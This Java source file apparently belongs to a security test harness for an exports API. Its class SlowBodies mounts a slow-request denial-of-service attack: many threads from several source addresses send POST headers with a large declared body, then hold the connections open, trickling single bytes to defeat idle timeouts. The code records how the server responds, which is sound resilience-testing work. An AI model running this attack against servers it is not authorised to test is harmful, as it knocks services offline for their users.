package pelcro.exports.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.LongAdder;

/**
 * Scenario 1 of issue 10: connections that send a POST's headers without a key and part of its
 * body, then wait. Each of {@code connections} threads keeps one such connection open until the
 * end; when the server answers or closes one, the thread judges the answer and opens another (the
 * attacker keeps up the pressure), at most {@link #MAX_ROUNDS} times.
 */
public final class SlowBodies {
  private static final int MAX_ROUNDS = 20;

  private final InetSocketAddress server;
  private final List<InetAddress> addresses;
  private final Tally tally;
  private final LongAdder opened = new LongAdder();
  private final LongAdder connectFailures = new LongAdder();
  private final LongAdder answeredByServer = new LongAdder();
  private final LongAdder closedByServer = new LongAdder();
  private final LongAdder heldToTheEnd = new LongAdder();
  private final Set<Socket> open = ConcurrentHashMap.newKeySet();

  public SlowBodies(InetSocketAddress server, List<InetAddress> addresses, Tally tally) {
    this.server = server;
    this.addresses = List.copyOf(addresses);
    this.tally = tally;
  }

  /**
   * Holds {@code connections} stuck requests for {@code seconds}.
   *
   * @param trickleSeconds every so many seconds one more body byte goes out on each connection (0:
   *     never), which defeats a plain idle timeout
   */
  public void run(int connections, long seconds, long trickleSeconds) throws InterruptedException {
    long deadline = System.nanoTime() + seconds * 1_000_000_000L;
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < connections; i++) {
      InetAddress from = addresses.get(i % addresses.size());
      Thread t = new Thread(null, () -> hold(from, deadline), "slow-body", 128 * 1024);
      t.setDaemon(true);
      threads.add(t);
      t.start();
    }
    Thread trickler = null;
    if (trickleSeconds > 0) {
      trickler = new Thread(() -> trickle(trickleSeconds, deadline), "slow-body-trickle");
      trickler.setDaemon(true);
      trickler.start();
    }
    for (Thread t : threads) {
      t.join(Math.max(1, (deadline - System.nanoTime()) / 1_000_000 + 15_000));
    }
    for (Socket s : open) {
      closeQuietly(s);
    }
    if (trickler != null) {
      trickler.interrupt();
    }
  }

  private void hold(InetAddress from, long deadline) {
    String host = server.getHostString() + ":" + server.getPort();
    byte[] head =
        ("POST /api/v1/core/exports?site_id=1001 HTTP/1.1\r\nHost: "
                + host
                + "\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"object\":")
            .getBytes(StandardCharsets.US_ASCII);
    RawScript script =
        new RawScript(
            "stuck mid-body, no key",
            List.of(new RawScript.Write(head), new RawScript.Pause(0)),
            false,
            "POST",
            "/api/v1/core/exports");
    for (int round = 0; round < MAX_ROUNDS && System.nanoTime() < deadline; round++) {
      long started = System.nanoTime();
      Socket socket = new Socket();
      try {
        socket.bind(new InetSocketAddress(from, 0));
        socket.connect(server, 5000);
        socket.setSoLinger(true, 0);
        OutputStream out = socket.getOutputStream();
        out.write(head);
        out.flush();
        opened.increment();
        open.add(socket);
      } catch (IOException e) {
        connectFailures.increment();
        closeQuietly(socket);
        sleepQuietly(200);
        continue;
      }
      try {
        int wait = (int) Math.max(1, (deadline - System.nanoTime()) / 1_000_000);
        socket.setSoTimeout(wait);
        var conn = AnswerReader.bind(socket);
        Answer answer = AnswerReader.read(conn, "POST", 1 << 16, started);
        if (answer.failure() == Answer.Failure.TIMEOUT) {
          heldToTheEnd.increment();
          return;
        }
        if (answer.answered()) {
          answeredByServer.increment();
          tally.record(
              script.name(),
              script::reproduction,
              answer,
              Rules.check("POST", "/api/v1/core/exports", answer, false));
        } else {
          closedByServer.increment();
        }
      } catch (IOException e) {
        closedByServer.increment();
      } finally {
        open.remove(socket);
        closeQuietly(socket);
      }
    }
  }

  private void trickle(long everySeconds, long deadline) {
    while (System.nanoTime() < deadline) {
      sleepQuietly(everySeconds * 1000);
      for (Socket s : open) {
        try {
          s.getOutputStream().write(' ');
        } catch (IOException e) {
          // closed meanwhile: its thread sees it
        }
      }
    }
  }

  /** What happened to the stuck connections, in one line. */
  public String describe() {
    return String.format(
        "opened %,d stuck connections (connect failures %,d); the server answered %,d,"
            + " closed %,d without an answer; %,d were still held at the end",
        opened.sum(),
        connectFailures.sum(),
        answeredByServer.sum(),
        closedByServer.sum(),
        heldToTheEnd.sum());
  }

  public long connectFailures() {
    return connectFailures.sum();
  }

  private static void closeQuietly(Socket s) {
    try {
      s.close();
    } catch (IOException e) {
      // already gone
    }
  }

  private static void sleepQuietly(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
